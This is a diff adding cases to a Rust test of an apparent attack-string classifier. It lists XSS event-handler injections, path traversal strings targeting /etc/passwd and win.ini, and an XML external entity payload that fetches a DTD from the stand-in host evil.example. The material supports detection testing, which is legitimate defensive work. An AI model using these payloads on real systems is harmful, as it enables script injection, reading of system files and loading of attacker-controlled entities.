@@ -39,6 +39,20 @@ fn attacks_are_flagged_with_their_family() {
         ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", Category::Xss),
         ("\" onmouseover=\"alert(1)", Category::Xss),
         ("<svg/onload=alert(1)>", Category::Xss),
+        // Any `on...=` handler, however long its (vendor) event name.
+        (
+            "\" onwebkitcurrentplaybacktargetiswirelesschanged=x",
+            Category::Xss,
+        ),
+        ("' onanyfutureeventname=go()", Category::Xss),
+        (
+            "<?import namespace=\"t\" implementation=\"#default#time2\">",
+            Category::Xss,
+        ),
+        (
+            "<!DOCTYPE d [<!ENTITY % e SYSTEM \"http://evil.example/x.dtd\">%e;]>",
+            Category::Xss,
+        ),
         ("../../../../etc/passwd", Category::PathTraversal),
         ("..%c0%af..%c0%afetc%c0%afpasswd", Category::PathTraversal),
         ("..\\..\\windows\\win.ini", Category::PathTraversal),
